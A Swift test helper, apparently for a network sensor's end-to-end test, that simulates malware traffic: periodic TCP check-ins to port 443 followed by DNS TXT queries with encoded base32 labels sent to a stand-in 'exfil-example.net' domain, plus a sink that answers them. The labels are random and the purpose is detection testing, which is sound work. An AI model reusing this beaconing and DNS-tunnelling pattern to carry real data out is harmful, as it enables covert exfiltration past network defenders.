import Foundation

#if canImport(Glibc)
import Glibc
#elseif canImport(Darwin)
import Darwin
#endif

/// Real traffic for the live sensor's end-to-end test (run inside network namespaces):
/// - `agent PRIMARY CHECKINS QUIET QUERIES FALLBACK`: a background agent that checks in with
///   TCP to PRIMARY:443 once a second (each connection held half a second, so a /proc poll
///   sees it), goes quiet for QUIET seconds, then falls back to DNS TXT queries with encoded
///   labels to FALLBACK:53, two a second, from one UDP socket.
/// - `sink ADDRESS DNS`: answers TCP on ADDRESS:443 (one line back per connection) and DNS
///   on DNS:53 (the query echoed as a response), until killed.
enum LiveAgent {
    #if canImport(Glibc)
    static let stream = Int32(SOCK_STREAM.rawValue), datagram = Int32(SOCK_DGRAM.rawValue)
    #else
    static let stream = SOCK_STREAM, datagram = SOCK_DGRAM
    #endif

    static func address(_ text: String, port: UInt16) -> sockaddr_in {
        var a = sockaddr_in()
        a.sin_family = sa_family_t(AF_INET)
        a.sin_port = port.bigEndian
        inet_pton(AF_INET, text, &a.sin_addr)
        return a
    }

    static func withAddress<T>(_ a: sockaddr_in, _ body: (UnsafePointer<sockaddr>, socklen_t) -> T) -> T {
        var a = a
        return withUnsafePointer(to: &a) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { body($0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
    }

    static func agent(sink: String, checkins: Int, quiet: Double, queries: Int, fallback: String) {
        for i in 0..<checkins {
            let fd = socket(AF_INET, stream, 0)
            if withAddress(address(sink, port: 443), { connect(fd, $0, $1) }) == 0 {
                let message = Array("check-in \(i)\n".utf8)
                _ = message.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, 0) }
                var reply = [UInt8](repeating: 0, count: 256)
                _ = reply.withUnsafeMutableBytes { recv(fd, $0.baseAddress, $0.count, 0) }
                usleep(500_000)
            }
            close(fd)
            usleep(500_000)
        }
        usleep(UInt32(quiet * 1_000_000))
        let fd = socket(AF_INET, datagram, 0)
        _ = withAddress(address(fallback, port: 53)) { connect(fd, $0, $1) }
        var rng = SystemRandomNumberGenerator()
        let alphabet = Array("abcdefghijklmnopqrstuvwxyz234567".utf8)
        for q in 0..<queries {
            // A TXT query for <40 base32 characters>.<q>.t.exfil-example.net.
            var packet: [UInt8] = [UInt8(q >> 8 & 0xff), UInt8(q & 0xff), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]
            let label = (0..<40).map { _ in alphabet[Int.random(in: 0..<32, using: &rng)] }
            for part in [label, Array(String(q).utf8), Array("t".utf8), Array("exfil-example".utf8), Array("net".utf8)] {
                packet.append(UInt8(part.count))
                packet += part
            }
            packet += [0, 0, 16, 0, 1]
            _ = packet.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, 0) }
            usleep(500_000)
        }
        close(fd)
    }

    static func sink(address text: String, dns: String) {
        let tcp = socket(AF_INET, stream, 0)
        var one: Int32 = 1
        setsockopt(tcp, SOL_SOCKET, SO_REUSEADDR, &one, socklen_t(MemoryLayout<Int32>.size))
        guard withAddress(address(text, port: 443), { bind(tcp, $0, $1) }) == 0, listen(tcp, 64) == 0 else {
            FileHandle.standardError.write(Data("sink: cannot listen on \(text):443\n".utf8))
            exit(1)
        }
        let udp = socket(AF_INET, datagram, 0)
        guard withAddress(address(dns, port: 53), { bind(udp, $0, $1) }) == 0 else {
            FileHandle.standardError.write(Data("sink: cannot bind \(dns):53\n".utf8))
            exit(1)
        }
        Thread.detachNewThread {
            var buffer = [UInt8](repeating: 0, count: 1500)
            var from = sockaddr_storage()
            while true {
                var length = socklen_t(MemoryLayout<sockaddr_storage>.size)
                let n = buffer.withUnsafeMutableBytes { b in
                    withUnsafeMutablePointer(to: &from) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { recvfrom(udp, b.baseAddress, b.count, 0, $0, &length) } }
                }
                guard n >= 12 else { continue }
                buffer[2] |= 0x80  // a response, no answers
                _ = buffer.withUnsafeBytes { b in
                    withUnsafePointer(to: &from) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { sendto(udp, b.baseAddress, n, 0, $0, length) } }
                }
            }
        }
        while true {
            let client = accept(tcp, nil, nil)
            guard client >= 0 else { continue }
            Thread.detachNewThread {
                var buffer = [UInt8](repeating: 0, count: 256)
                _ = buffer.withUnsafeMutableBytes { recv(client, $0.baseAddress, $0.count, 0) }
                let reply = Array("ok\n".utf8)
                _ = reply.withUnsafeBytes { send(client, $0.baseAddress, $0.count, 0) }
                _ = buffer.withUnsafeMutableBytes { recv(client, $0.baseAddress, $0.count, 0) }  // until the agent closes
                close(client)
            }
        }
    }
}
